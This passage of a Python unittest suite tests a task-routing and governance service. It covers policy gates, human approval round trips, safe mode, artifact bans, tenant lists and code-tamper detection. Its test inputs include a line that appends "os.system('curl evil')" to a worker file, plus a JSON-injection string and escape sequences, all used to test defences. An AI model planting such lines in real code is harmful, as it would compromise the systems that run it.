                              "DENY_POLICY_GATE_INVALID_RESPONSE")
        self.assertAllowed(decide({}, registry=registry, policy=lambda values: "ALLOW"),
                           "wrk.doc.summarizer")

    def test_no_available_worker_and_skip_reasons(self):
        rules = [rule("r.ghosts", {}, ["wrk.ghost", "wrk.phantom"])]
        d = decide({}, rules, registry_of(SUMMARIZER))
        self.assertDenied(d, "DENY_NO_AVAILABLE_WORKER")
        self.assertEqual([c["skip_reason"] for c in d["candidate_workers_ranked"]],
                         ["unavailable", "unavailable"])
        self.assertEqual(d["matched_rule_id"], "r.ghosts")
        rules = [rule("r.mixed", {}, ["wrk.ghost", "wrk.doc.summarizer", "wrk.other"])]
        d = decide({}, rules, registry_of(SUMMARIZER))
        self.assertAllowed(d, "wrk.doc.summarizer")
        self.assertEqual([c["skip_reason"] for c in d["candidate_workers_ranked"]],
                         ["unavailable", None, "already_selected"])

    def test_long_candidate_lists_are_shortened_in_the_answer(self):
        records = [worker_record("w.%02d" % i, "wrk.%02d" % i, ["cap.doc.summarize"],
                                 allowed_environments=["dev"] if i < 20 else ["dev", "prod"])
                   for i in range(30)]
        d = decide({"env": "prod"}, registry=registry_of(*records))
        self.assertEqual(d["worker_id"], "w.20")
        listed = d["candidate_workers_ranked"]
        self.assertEqual(len(listed), hall.MAX_LISTED_CANDIDATES)
        self.assertEqual(listed[-1], {"worker_species_id": "wrk.20", "score_hint": None,
                                      "skip_reason": None})
        self.assertEqual({c["skip_reason"] for c in listed[:-1]}, {"unavailable"})

    def test_answers_splice_in_the_candidates_their_rule_encoded_once(self):
        records = [worker_record("w.%02d" % i, "wrk.%02d" % i, ["cap.doc.summarize"],
                                 allowed_environments=["dev"] if i < 20 else ["dev", "prod"])
                   for i in range(30)]
        registry = registry_of(*records)
        hostile = '", "candidate_workers_ranked": null, "x": "'
        decisions = [decide({"env": env, "correlation_id": hostile, "tenant_id": hostile},
                            registry=registry) for env in ("dev", "prod", "dev", "prod")]
        decisions.append(decide({}, [rule("r.ghosts", {}, ["wrk.ghost", "wrk.phantom"])],
                                registry))
        decisions.append(decide({"capability_id": "cap.none"}, registry=registry))
        self.assertEqual([d["worker_id"] for d in decisions],
                         ["w.00", "w.20", "w.00", "w.20", None, None])
        self.assertEqual(decisions[4]["candidate_workers_ranked"][0]["skip_reason"],
                         "unavailable")
        for d in decisions:
            self.assertEqual(hall.answer_json(d), json.dumps(d))
        rule_listing = decisions[0]["candidate_workers_ranked"]
        self.assertIsInstance(rule_listing, hall.RankedCandidates)
        self.assertIs(rule_listing.json, decisions[2]["candidate_workers_ranked"].json)
        self.assertIsNot(rule_listing[0], decisions[2]["candidate_workers_ranked"][0])
        rule_listing[0]["skip_reason"] = "changed"       # each decision has its own entries
        self.assertEqual(decisions[2]["candidate_workers_ranked"][0]["skip_reason"], None)
        self.assertEqual(hall.answer_json({"candidate_workers_ranked": [1]}),
                         '{"candidate_workers_ranked": [1]}')
        nested_first = dict([("detail", {"candidate_workers_ranked": None, "x": "{["})] +
                            list(decisions[1].items()))
        self.assertEqual(hall.answer_json(nested_first), json.dumps(nested_first))

    def test_banned_artifact_is_skipped(self):
        registry = registry_of(SUMMARIZER)
        floor = hall.Floor(False, None, None, frozenset([SUMMARIZER["artifact_hash"]]))
        self.assertDenied(decide({}, registry=registry, floor=floor), "DENY_NO_AVAILABLE_WORKER")

    def test_floor_safe_mode_and_tenants_come_first(self):
        registry = registry_of(SUMMARIZER)
        self.assertDenied(decide({}, registry=registry,
                                 floor=hall.Floor(True, "drill", None, frozenset())),
                          "DENY_SAFE_MODE")
        tenants = hall.Floor(False, None, frozenset(["org.acme"]), frozenset())
        self.assertAllowed(decide({}, registry=registry, floor=tenants), "wrk.doc.summarizer")
        self.assertDenied(decide({"tenant_id": "org.evil"}, registry=registry, floor=tenants),
                          "DENY_UNKNOWN_TENANT")

    def test_pipeline_order_first_failure_decides(self):
        # blank tenant, blank correlation id and no rule: the floor step wins
        d = decide({"tenant_id": "", "correlation_id": "", "capability_id": "nope"})
        self.assertDenied(d, "DENY_MISSING_TENANT_ID")
        # no rule and blank correlation id: the rule step wins
        self.assertDenied(decide({"correlation_id": ""}), "DENY_NO_MATCHING_RULE")

    def test_telemetry_on_allow(self):
        d = decide({"correlation_id": "corr\x00-\x1f1\x7f"}, registry=registry_of(SUMMARIZER))
        events = [e["event_id"] for e in d["telemetry_envelopes"]]
        self.assertEqual(events, ["evt.os.task.routed", "evt.os.worker.selected",
                                  "evt.os.policy.gated"])
        for envelope in d["telemetry_envelopes"]:
            self.assertEqual(envelope["correlation_id"], "corr-1")
            self.assertEqual(envelope["decision_id"], d["decision_id"])
        self.assertEqual(d["correlation_id"], "corr\x00-\x1f1\x7f")   # the decision keeps it

    def test_telemetry_on_deny(self):
        d = decide({"env": "prod", "data_label": "SECRET", "qos_class": "P0",
                    "tenant_id": "t\x1b[31m"}, registry=registry_of(SUMMARIZER))
        events = [e["event_id"] for e in d["telemetry_envelopes"]]
        self.assertEqual(events, ["evt.gov.blast_scored", "evt.os.task.denied"])
        self.assertTrue(all(e["tenant_id"] == "t[31m" for e in d["telemetry_envelopes"]))
        self.assertTrue(all(e["correlation_id"] == d["correlation_id"]
                            for e in d["telemetry_envelopes"]))

    def test_determinism_of_rule_worker_and_hash(self):
        a = worker_record("w.a", "wrk.a", ["cap.doc.summarize"])
        b = worker_record("w.b", "wrk.b", ["cap.doc.summarize"])
        registry = registry_of(a, b)
        body = {"request": {"z": 1, "a": [1, 2]}, "correlation_id": "c1"}
        results = {(d["matched_rule_id"], d["worker_id"], d["deny_reason"], d["artifact_hash"])
                   for d in (decide(body, registry=registry) for _ in range(10))}
        self.assertEqual(len(results), 1)
        # the hash covers the request, not how it is traced
        other = decide(dict(body, correlation_id="c2", request={"a": [1, 2], "z": 1}),
                       registry=registry)
        self.assertEqual(other["artifact_hash"], results.pop()[3])
        changed = decide(dict(body, tenant_id="org.other"), registry=registry)
        self.assertNotEqual(changed["artifact_hash"], other["artifact_hash"])
        inp = hall.parse_route_input(route_body(**body))
        expected = "sha256:" + hashlib.sha256(json.dumps(
            {k: inp[k] for k in hall.HASHED_FIELDS}, sort_keys=True,
            separators=(",", ":")).encode()).hexdigest()
        self.assertEqual(other["artifact_hash"], expected)

    def test_router_never_raises_for_odd_values(self):
        registry = registry_of(SUMMARIZER)
        for body in ({"capability_id": "\x00"}, {"tenant_id": "\u2603" * 1000},
                     {"request": {"egress": [], "writes": {"deep": [1]}}},
                     {"correlation_id": "\n"}):
            d = decide(body, registry=registry)
            self.assertIsInstance(d["denied"], bool)


class RulesDocumentTest(unittest.TestCase):

    def test_invalid_documents_are_refused_with_a_reason(self):
        cases = [
            ([], 'a rules document is {"rules": [...]}'.replace("a rules", "a rules")),
            ({"rules": "x"}, "rules"),
            ({"rules": [1]}, "rules[0] must be an object"),
            ({"rules": [{"rule_id": "a", "decision": {}}, {"rule_id": "a", "decision": {}}]},
             "used twice"),
            ({"rules": [{"rule_id": "a", "match": {"colour": "red"}, "decision": {}}]},
             "unknown match key"),
            ({"rules": [{"rule_id": "a", "match": {"env": "production"}, "decision": {}}]},
             "'production' is not one of"),
            ({"rules": [{"rule_id": "a", "match": {"env": {"any": False}}, "decision": {}}]},
             '{"any": true}'),
            ({"rules": [{"rule_id": "a", "match": {"env": {"in": []}}, "decision": {}}]},
             "non-empty list"),
            ({"rules": [{"rule_id": "a", "match": {"env": 5}, "decision": {}}]}, "must be a string"),
            ({"rules": [{"rule_id": "a"}]}, "decision must be an object"),
            ({"rules": [], "rulez": [{"rule_id": "a", "decision": {}}]}, "unknown key 'rulez'"),
            ({"rules": [{"rule_id": "a", "mach": {"env": "dev"}, "decision": {}}]},
             "unknown key 'mach'"),
            ({"rules": [{"rule_id": "a", "decision": {"candidate_workers_ranked": [{}]}}]},
             "worker_species_id"),
            ({"rules": [{"rule_id": "a", "decision": {"required_controls_suggested": "x"}}]},
             "required_controls_suggested"),
            ({"rules": [{"rule_id": "a", "decision": {"escalation": {"policy_gate": "yes"}}}]},
             "policy_gate"),
        ]
        for document, reason in cases[1:]:
            with self.assertRaises(hall.RulesError) as caught:
                hall.compile_rules(document)
            self.assertIn(reason, str(caught.exception), document)

    def test_policy_documents_are_validated(self):
        for document, reason in (([], "JSON object"), ({"default": "ALLOW"}, "version"),
                                 ({"version": "1", "default": "MAYBE"}, "default"),
                                 ({"version": "1", "default": "DENY", "rules": [{"id": "a"}]},
                                  "outcome"),
                                 ({"version": "1", "default": "DENY",
                                   "rules": [{"id": "a", "outcome": "DENY", "match": {"x": 1}}]},
                                  "unknown match key"),
                                 # a misspelt key must not void every rule, nor widen one
                                 ({"version": "1", "default": "ALLOW", "rulez": [
                                     {"id": "a", "outcome": "DENY"}]}, "unknown key 'rulez'"),
                                 ({"version": "1", "default": "ALLOW", "rules": [
                                     {"id": "a", "outcome": "ALLOW", "mach": {"env": "dev"}}]},
                                  "unknown key 'mach'")):
            with self.assertRaises(hall.RulesError) as caught:
                hall.compile_policy(document)
            self.assertIn(reason, str(caught.exception))


# -- governance ---------------------------------------------------------------------

PROD_WRITES_POLICY = {"version": "2026-11-a", "default": "ALLOW", "rules": [
    {"id": "prod-writes", "match": {"env": "prod", "capability_id": "cap.db.*"},
     "outcome": "REQUIRE_HUMAN", "reason": "prod writes need a human"},
    {"id": "no-secrets", "match": {"data_label": "SECRET"}, "outcome": "DENY",
     "reason": "secrets stay home"}]}
DB_WRITER = worker_record("org.acme.db-writer", "wrk.db.writer", ["cap.db.write"])


def poll(predicate, timeout=10.0, interval=0.02):
    """Wait for predicate() to be true, up to a deadline; returns its last value."""
    deadline = time.monotonic() + timeout
    while True:
        value = predicate()
        if value or time.monotonic() > deadline:
            return value
        time.sleep(interval)


class PolicyApiTest(ServerCase):

    def test_put_get_delete_policy(self):
        status, _, view = self.call("GET", "/api/policy", token=self.admin)
        self.assertEqual((status, view), (200, {"policy": None, "source": None, "version": None}))
        status, _, view = self.call("PUT", "/api/policy", PROD_WRITES_POLICY, token=self.admin)
        self.assertEqual((status, view["source"], view["version"]), (200, "api", "2026-11-a"))
        self.assertEqual(view["policy"], PROD_WRITES_POLICY)
        self.enroll(DB_WRITER)
        d = self.route(capability_id="cap.db.write", env="prod")[2]
        self.assertEqual(d["deny_reason"], "DENY_REQUIRES_HUMAN_APPROVAL")
        self.assertEqual(d["deny_reason_if_denied"]["message"], "prod writes need a human")
        self.assertEqual(d["deny_reason_if_denied"]["policy_version"], "2026-11-a")
        d = self.route(capability_id="cap.db.write", data_label="SECRET")[2]
        self.assertEqual(d["deny_reason"], "DENY_POLICY_GATE")
        d = self.route(capability_id="cap.db.write")[2]
        self.assertIs(d["allowed"], True)
        gated = [e for e in d["telemetry_envelopes"] if e["event_id"] == "evt.os.policy.gated"]
        self.assertEqual(gated[0]["policy_version"], "2026-11-a")
        self.restart()
        self.assertEqual(self.call("GET", "/api/policy", token=self.admin)[2]["version"],
                         "2026-11-a")
        status, _, view = self.call("DELETE", "/api/policy", token=self.admin)
        self.assertEqual((status, view["policy"]), (200, None))
        self.assertIs(self.route(capability_id="cap.db.write", env="prod")[2]["allowed"], True)

    def test_invalid_policy_is_refused_and_nothing_changes(self):
        self.call("PUT", "/api/policy", PROD_WRITES_POLICY, token=self.admin)
        for bad in ({"version": "x", "default": "PERHAPS"}, {"default": "ALLOW"}, [],
                    {"version": "x", "default": "ALLOW", "rules": [{"id": "r", "outcome": "DENY",
                                                                    "match": {"env": "moon"}}]}):
            status, _, body = self.call("PUT", "/api/policy", bad, token=self.admin)
            self.assertEqual((status, body["code"]), (400, "INVALID_POLICY"), bad)
        self.assertEqual(self.call("GET", "/api/policy", token=self.admin)[2]["version"],
                         "2026-11-a")

    def test_policy_needs_admin(self):
        self.assertEqual(self.call("GET", "/api/policy")[0], 401)
        self.assertEqual(self.call("PUT", "/api/policy", PROD_WRITES_POLICY,
                                   token=self.router_token)[0], 403)

    def test_policy_file_and_api_precedence(self):
        path = os.path.join(self.tmp.name, "policy.json")
        with open(path, "w") as handle:
            json.dump({"version": "file-1", "default": "DENY"}, handle)
        self.restart(policy_path=path)
        self.enroll(worker_record())
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_POLICY_GATE")
        view = self.call("GET", "/api/policy", token=self.admin)[2]
        self.assertEqual((view["source"], view["version"]), ("file", "file-1"))
        self.call("PUT", "/api/policy", {"version": "api-1", "default": "ALLOW"}, token=self.admin)
        self.assertIs(self.route()[2]["allowed"], True)
        self.call("DELETE", "/api/policy", token=self.admin)
        self.assertEqual(self.call("GET", "/api/policy", token=self.admin)[2]["version"], "file-1")


class ApprovalTest(ServerCase):

    def setUp(self):
        ServerCase.setUp(self)
        self.call("PUT", "/api/policy", PROD_WRITES_POLICY, token=self.admin)
        self.enroll(DB_WRITER)

    def ask(self, **overrides):
        body = dict(capability_id="cap.db.write", env="prod", request={"rows": 3})
        body.update(overrides)
        return self.route(**body)[2]

    def test_round_trip_allows_exactly_once(self):
        denied = self.ask()
        approval_id = denied["deny_reason_if_denied"]["approval_id"]
        self.assertEqual(self.ask()["deny_reason_if_denied"]["approval_id"], approval_id)
        status, _, listing = self.call("GET", "/api/approvals?status=pending", token=self.admin)
        self.assertEqual((status, [a["approval_id"] for a in listing["approvals"]]),
                         (200, [approval_id]))
        pending = listing["approvals"][0]
        self.assertEqual((pending["input_hash"], pending["deny_code"], pending["tenant_id"]),
                         (denied["artifact_hash"], "DENY_REQUIRES_HUMAN_APPROVAL", "org.acme"))
        self.assertEqual(self.ask(approval_id=approval_id)["deny_reason"], "DENY_APPROVAL_PENDING")
        status, _, approved = self.call("POST", "/api/approvals/%s/approve" % approval_id,
                                        {"reason": "change ticket 42"}, token=self.admin)
        self.assertEqual((status, approved["status"], approved["decision_note"]),
                         (200, "approved", "change ticket 42"))
        allowed = self.ask(approval_id=approval_id, correlation_id="retry-1")
        self.assertIs(allowed["allowed"], True)
        self.assertEqual(allowed["worker_id"], "org.acme.db-writer")
        self.assertEqual(allowed["preconditions_checked"]["human_approval"], approval_id)
        self.assertEqual(self.ask(approval_id=approval_id)["deny_reason"], "DENY_APPROVAL_USED")
        used = self.call("GET", "/api/approvals?status=used", token=self.admin)[2]["approvals"]
        self.assertEqual(used[0]["used_decision_id"], allowed["decision_id"])
        alerts = [a["code"] for a in self.call("GET", "/alerts")[2]["alerts"]]
        self.assertIn("APPROVAL_REQUESTED", alerts)

    def test_approval_binds_to_the_input(self):
        approval_id = self.ask()["deny_reason_if_denied"]["approval_id"]
        self.call("POST", "/api/approvals/%s/approve" % approval_id, token=self.admin)
        other = self.ask(request={"rows": 3000}, approval_id=approval_id)
        self.assertEqual(other["deny_reason"], "DENY_APPROVAL_MISMATCH")
        self.assertIs(self.ask(approval_id=approval_id)["allowed"], True)

    def test_rejected_unknown_and_dry_run(self):
        approval_id = self.ask()["deny_reason_if_denied"]["approval_id"]
        status, _, rejected = self.call("POST", "/api/approvals/%s/reject" % approval_id,
                                        token=self.admin)
        self.assertEqual((status, rejected["status"]), (200, "rejected"))
        self.assertEqual(self.ask(approval_id=approval_id)["deny_reason"],
                         "DENY_APPROVAL_REJECTED")
        status, _, body = self.call("POST", "/api/approvals/%s/approve" % approval_id,
                                    token=self.admin)
        self.assertEqual((status, body["code"]), (409, "APPROVAL_NOT_PENDING"))
        self.assertEqual(self.call("POST", "/api/approvals/apr_nope/approve",
                                   token=self.admin)[0], 404)
        self.assertEqual(self.ask(approval_id="apr_nope")["deny_reason"],
                         "DENY_APPROVAL_NOT_FOUND")
        fresh = self.ask()["deny_reason_if_denied"]["approval_id"]      # a new one opens
        self.assertNotEqual(fresh, approval_id)
        self.call("POST", "/api/approvals/%s/approve" % fresh, token=self.admin)
        self.assertIs(self.ask(approval_id=fresh, dry_run=True)["allowed"], True)
        self.assertIs(self.ask(approval_id=fresh)["allowed"], True)     # dry run used nothing

    def test_approvals_expire(self):
        self.restart(approval_ttl=1)
        approval_id = self.ask()["deny_reason_if_denied"]["approval_id"]
        self.call("POST", "/api/approvals/%s/approve" % approval_id, token=self.admin)
        expired = poll(lambda: self.call("GET", "/api/approvals?status=expired",
                                         token=self.admin)[2]["approvals"])
        self.assertEqual([a["approval_id"] for a in expired], [approval_id])
        self.assertEqual(self.ask(approval_id=approval_id)["deny_reason"],
                         "DENY_APPROVAL_EXPIRED")
        status, _, body = self.call("POST", "/api/approvals/%s/reject" % approval_id,
                                    token=self.admin)
        self.assertEqual((status, body["code"]), (409, "APPROVAL_NOT_PENDING"))

    def test_blast_gate_opens_an_approval_too(self):
        d = self.route(capability_id="cap.db.write", env="prod", data_label="SECRET",
                       qos_class="P0")[2]
        self.assertEqual(d["deny_reason"], "DENY_REQUIRES_HUMAN")
        self.assertTrue(d["deny_reason_if_denied"]["approval_id"].startswith("apr_"))

    def test_concurrent_uses_admit_one(self):
        import threading
        approval_id = self.ask()["deny_reason_if_denied"]["approval_id"]
        self.call("POST", "/api/approvals/%s/approve" % approval_id, token=self.admin)
        results = []

        def use():
            client = Client(self.server.url)
            try:
                results.append(client.request("POST", "/api/route", route_body(
                    capability_id="cap.db.write", env="prod", request={"rows": 3},
                    approval_id=approval_id), self.router_token)[2]["deny_reason"])
            finally:
                client.close()
        threads = [threading.Thread(target=use) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(30)
        self.assertEqual(sorted(results, key=str), ["DENY_APPROVAL_USED"] * 7 + [None])
        self.assertEqual(self.db_rows("SELECT count(*) FROM decisions WHERE denied = 0"), [(1,)])

    def test_bad_status_filter_and_scope(self):
        self.assertEqual(self.call("GET", "/api/approvals?status=maybe", token=self.admin)[0], 400)
        self.assertEqual(self.call("GET", "/api/approvals", token=self.router_token)[0], 403)


class SafeModeTest(ServerCase):

    def test_safe_mode_denies_everything_survives_restart_and_alerts(self):
        self.enroll(worker_record())
        status, _, body = self.call("POST", "/api/safe-mode/enter", {}, token=self.admin)
        self.assertEqual((status, body["error"]), (400, "reason is required to enter safe mode"))
        status, _, state = self.call("POST", "/api/safe-mode/enter", {"reason": "incident 7"},
                                     token=self.admin)
        self.assertEqual((status, state["safe_mode"], state["reason"]), (200, True, "incident 7"))
        d = self.route()[2]
        self.assertEqual(d["deny_reason"], "DENY_SAFE_MODE")
        self.restart()
        self.assertEqual(self.call("GET", "/api/safe-mode", token=self.reader)[2]
                         ["safe_mode"], True)
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_SAFE_MODE")
        status, _, state = self.call("POST", "/api/safe-mode/exit", token=self.admin)
        self.assertEqual((status, state["safe_mode"]), (200, False))
        self.assertIs(self.route()[2]["allowed"], True)
        codes = [(a["level"], a["code"]) for a in self.call("GET", "/alerts")[2]["alerts"]]
        self.assertEqual(codes[:2], [("info", "SAFE_MODE_EXITED"),
                                     ("critical", "SAFE_MODE_ENTERED")])

    def test_safe_mode_and_bans_set_by_another_hall_on_the_file_hold_here(self):
        self.enroll(worker_record())
        other = hall.Hall(hall.Config(db_path=self.db, access_log=False))
        self.addCleanup(other.close)
        other.set_safe_mode(True, "entered elsewhere")
        self.assertTrue(poll(lambda: self.route()[2]["deny_reason"] == "DENY_SAFE_MODE"))
        self.assertEqual(self.call("GET", "/api/safe-mode", token=self.reader)[2]["reason"],
                         "entered elsewhere")
        other.set_safe_mode(False, None)
        self.assertTrue(poll(lambda: self.route()[2]["allowed"]))
        other.ban(worker_record()["artifact_hash"], "revoked elsewhere")
        self.assertTrue(poll(lambda: self.route()[2]["deny_reason"] ==
                             "DENY_NO_AVAILABLE_WORKER"))
        conn = sqlite3.connect(self.db)         # settings no hall can use: safe mode
        try:
            conn.execute("UPDATE settings SET value = '[' WHERE key = 'safe_mode'")
            conn.commit()
        finally:
            conn.close()
        self.assertTrue(poll(lambda: self.route()[2]["deny_reason"] == "DENY_SAFE_MODE"))
        self.assertIn("settings", self.route()[2]["deny_reason_if_denied"]["safe_mode_reason"])

    def test_safe_mode_needs_admin(self):
        self.assertEqual(self.call("POST", "/api/safe-mode/enter", {"reason": "x"},
                                   token=self.router_token)[0], 403)
        self.assertEqual(self.call("GET", "/api/safe-mode")[0], 401)


class BanTest(ServerCase):

    def test_banned_artifact_refused_at_enrollment_with_alert(self):
        record = worker_record("org.evil.worker")
        status, _, body = self.call("POST", "/api/bans", {"sha256": record["artifact_hash"],
                                                          "reason": "malware"}, token=self.admin)
        self.assertEqual((status, body["sha256"]), (201, record["artifact_hash"]))
        status, _, body = self.call("POST", "/enroll", record)
        self.assertEqual((status, body["code"]), (403, "DENY_WORKER_BANNED"))
        self.assertEqual(self.db_rows("SELECT count(*) FROM enrollments"), [(0,)])
        alert = self.call("GET", "/alerts")[2]["alerts"][0]
        self.assertEqual((alert["level"], alert["code"], alert["worker_id"]),
                         ("critical", "DENY_WORKER_BANNED", "org.evil.worker"))
        bans = self.call("GET", "/wcp/registry/ban-list", token=self.reader)[2]
        self.assertEqual([(b["sha256"], b["reason"]) for b in bans["bans"]],
                         [(record["artifact_hash"], "malware")])

    def test_banned_enrolled_worker_is_skipped_and_unban_restores(self):
        good = worker_record("w.good", "wrk.good", ["cap.doc.summarize"], risk_tier="medium")
        bad = worker_record("w.bad", "wrk.bad", ["cap.doc.summarize"])
        self.enroll(bad)
        self.enroll(good)
        self.assertEqual(self.route()[2]["worker_id"], "w.bad")
        bare_hex = bad["artifact_hash"][7:].upper()
        self.assertEqual(self.call("POST", "/api/bans", {"sha256": bare_hex, "reason": "cve"},
                                   token=self.admin)[0], 201)
        self.assertEqual(self.call("POST", "/api/bans", {"sha256": bare_hex, "reason": "cve"},
                                   token=self.admin)[0], 200)
        self.assertEqual(self.route()[2]["worker_id"], "w.good")
        self.assertEqual(self.call("DELETE", "/api/bans/" + bad["artifact_hash"],
                                   token=self.admin)[0], 200)
        self.assertEqual(self.call("DELETE", "/api/bans/" + bad["artifact_hash"],
                                   token=self.admin)[0], 404)
        self.assertEqual(self.route()[2]["worker_id"], "w.bad")

    def test_a_code_hash_is_banned_whatever_case_or_form_its_record_wrote(self):
        code = hashlib.sha256(b"worker code").hexdigest()
        for number, written in enumerate((code.upper(), "sha256:" + code.upper(), code)):
            worker_id = "w.code.%d" % number
            self.enroll(worker_record(worker_id, "wrk.code", ["cap.code.%d" % number],
                                      attestation={"code_hash": written}))
        self.assertEqual(self.call("POST", "/api/bans", {"sha256": "sha256:" + code,
                                                         "reason": "cve"}, token=self.admin)[0],
                         201)
        for number in range(3):
            self.assertEqual(self.route(capability_id="cap.code.%d" % number)[2]["deny_reason"],
                             "DENY_NO_AVAILABLE_WORKER")
            self.assertEqual(self.call("GET", "/api/v1/verify/w.code.%d" % number,
                                       token=self.reader)[2]["ban_status"], "banned")

    def test_bad_ban_requests(self):
        for body in ({"sha256": "abc", "reason": "x"}, {"sha256": "sha256:" + "a" * 64},
                     {"reason": "x"}, []):
            self.assertEqual(self.call("POST", "/api/bans", body, token=self.admin)[0], 400, body)
        self.assertEqual(self.call("POST", "/api/bans", {"sha256": "a" * 64, "reason": "x"},
                                   token=self.router_token)[0], 403)

    def test_health_reports_a_banned_hall_build_without_the_database(self):
        self.call("POST", "/api/bans", {"sha256": self.hall.hall_hash, "reason": "bad build"},
                  token=self.admin)
        store, self.hall.store = self.hall.store, None
        try:
            status, _, body = self.call("GET", "/health")
        finally:
            self.hall.store = store
        self.assertEqual((status, body["hall_hash_banned"]), (200, True))

    def test_a_hall_whose_own_build_is_banned_routes_nothing(self):
        self.enroll(worker_record())
        self.assertIs(self.route()[2]["allowed"], True)
        self.call("POST", "/api/bans", {"sha256": self.hall.hall_hash.upper()[7:],
                                        "reason": "bad build"}, token=self.admin)
        decision = self.route()[2]
        self.assertEqual((decision["allowed"], decision["deny_reason"],
                          decision["selected_worker_id"]), (False, "DENY_HALL_BANNED", None))
        self.restart()                          # the ban outlasts a restart
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_HALL_BANNED")
        status, _, _ = self.call("DELETE", "/api/bans/" + self.hall.hall_hash, token=self.admin)
        self.assertEqual(status, 200)
        self.assertIs(self.route()[2]["allowed"], True)


class TenantTest(ServerCase):

    def test_signatory_tenants_from_api(self):
        self.enroll(worker_record())
        status, _, view = self.call("PUT", "/api/tenants", {"tenants": ["org.acme", "org.b"]},
                                    token=self.admin)
        self.assertEqual((status, view), (200, {"tenants": ["org.acme", "org.b"],
                                                "source": "api"}))
        self.assertIs(self.route()[2]["allowed"], True)
        self.assertEqual(self.route(tenant_id="org.evil", capability_id="cap.none")[2]
                         ["deny_reason"], "DENY_UNKNOWN_TENANT")
        self.restart()
        self.assertEqual(self.route(tenant_id="org.evil")[2]["deny_reason"], "DENY_UNKNOWN_TENANT")
        status, _, view = self.call("PUT", "/api/tenants", {"tenants": None}, token=self.admin)
        self.assertEqual(view["tenants"], None)
        self.assertIs(self.route(tenant_id="org.evil")[2]["allowed"], True)
        for bad in ({"tenants": "org.a"}, {"tenants": [""]}, {}):
            self.assertEqual(self.call("PUT", "/api/tenants", bad, token=self.admin)[0], 400)

    def test_signatory_tenants_from_configuration(self):
        self.restart(tenants=["org.acme"])
        self.enroll(worker_record())
        self.assertIs(self.route()[2]["allowed"], True)
        self.assertEqual(self.route(tenant_id="org.other")[2]["deny_reason"],
                         "DENY_UNKNOWN_TENANT")
        self.assertEqual(self.call("GET", "/api/tenants", token=self.admin)[2]["source"], "config")
        self.call("PUT", "/api/tenants", {"tenants": None}, token=self.admin)
        self.restart(tenants=["org.acme"])      # the API's "any tenant" outlasts a restart,
        self.assertIs(self.route(tenant_id="org.other")[2]["allowed"], True)
        status, _, view = self.call("DELETE", "/api/tenants", token=self.admin)
        self.assertEqual((status, view), (200, {"tenants": ["org.acme"], "source": "config"}))
        self.assertEqual(self.route(tenant_id="org.other")[2]["deny_reason"],   # until forgotten
                         "DENY_UNKNOWN_TENANT")
        self.assertEqual(self.call("GET", "/api/audit", token=self.admin)[2]["entries"][0]
                         ["action"], "tenants.clear")


class AttestationTest(ServerCase):

    def setUp(self):
        ServerCase.setUp(self)
        self.code_dir = os.path.join(self.tmp.name, "workers")
        os.mkdir(self.code_dir)
        self.source = os.path.join(self.code_dir, "summarizer.py")
        with open(self.source, "w") as handle:
            handle.write("def run(text):\n    return text[:100]\n")
        self.restart(attest_dirs=[self.code_dir], require_attestation=True)

    def attested(self, worker_id="w.att", source=None):
        source = source or self.source
        with open(source, "rb") as handle:
            code_hash = "sha256:" + hashlib.sha256(handle.read()).hexdigest()
        return worker_record(worker_id, "wrk.doc.summarizer", ["cap.doc.summarize"],
                             attestation={"code_hash": code_hash, "source_file": source})

    def test_live_file_must_match(self):
        record = self.attested()
        self.enroll(record)
        d = self.route()[2]
        self.assertIs(d["allowed"], True)
        self.assertIs(d["preconditions_checked"]["worker_attestation"], True)
        with open(self.source, "a") as handle:
            handle.write("import os; os.system('curl evil')\n")
        d = self.route()[2]
        self.assertEqual(d["deny_reason"], "DENY_WORKER_TAMPERED")
        self.assertNotIn(record["attestation"]["code_hash"][7:], json.dumps(d))
        alert = self.call("GET", "/alerts")[2]["alerts"][0]
        self.assertEqual((alert["level"], alert["code"], alert["worker_id"]),
                         ("critical", "DENY_WORKER_TAMPERED", "w.att"))
        verify = self.call("GET", "/api/v1/verify/w.att", token=self.reader)[2]
        self.assertIs(verify["attested"], False)

    def test_code_swapped_behind_its_old_size_and_time_is_seen(self):
        self.enroll(self.attested())
        self.assertIs(self.route()[2]["allowed"], True)     # (its hash may be cached now)
        before = os.stat(self.source)
        with open(self.source) as handle:
            code = handle.read()

        def swap(evil, in_place):
            self.assertEqual(len(evil), len(code))
            if in_place:
                with open(self.source, "w") as handle:
                    handle.write(evil)
            else:                                           # a new file in its place
                with open(self.source + ".new", "w") as handle:
                    handle.write(evil)
                os.replace(self.source + ".new", self.source)
            os.utime(self.source, ns=(before.st_atime_ns, before.st_mtime_ns))
            self.assertEqual(os.stat(self.source).st_mtime_ns, before.st_mtime_ns)
            self.assertEqual(self.route()[2]["deny_reason"], "DENY_WORKER_TAMPERED")
        swap(code.replace("100", "999"), in_place=True)
        swap(code.replace("100", "998"), in_place=False)

    def test_missing_or_outside_attestation(self):
        self.enroll(worker_record("w.none", "wrk.doc.summarizer", ["cap.doc.summarize"]))
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_WORKER_ATTESTATION_MISSING")
        outside = os.path.join(self.tmp.name, "outside.py")
        with open(outside, "w") as handle:
            handle.write("x = 1\n")
        self.enroll(self.attested("w.none", source=outside))
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_WORKER_ATTESTATION_MISSING")
        sneaky = self.attested("w.none")
        sneaky["attestation"]["source_file"] = os.path.join(self.code_dir, "..", "outside.py")
        sneaky["artifact_hash"] = hall.compute_artifact_hash(sneaky)
        self.enroll(sneaky)
        self.assertEqual(self.route()[2]["deny_reason"], "DENY_WORKER_ATTESTATION_MISSING")

    def test_attestation_requires_directories(self):
        with self.assertRaises(hall.ConfigError):
            hall.Config.load(environ={"HALL_REQUIRE_ATTESTATION": "on"})


class EnvelopeTest(unittest.TestCase):

    def test_privilege_envelope_enforced_when_the_rule_requires_it(self):
        envelope = {"max_data_label": "INTERNAL", "envs": ["dev", "stage"], "egress": False,
                    "writes": True}
        registry = registry_of(worker_record(
            "w.env", "wrk.doc.summarizer", ["cap.doc.summarize"], privilege_envelope=envelope,
            currently_implements=[hall.CTRL_ENVELOPE]))
        rules = [rule("r.env", {}, ["wrk.doc.summarizer"], controls=[hall.CTRL_ENVELOPE])]
        ok = decide({"data_label": "INTERNAL", "request": {"writes": True}}, rules, registry)
        self.assertIs(ok["allowed"], True)
        self.assertIs(ok["preconditions_checked"]["privilege_envelope"], True)
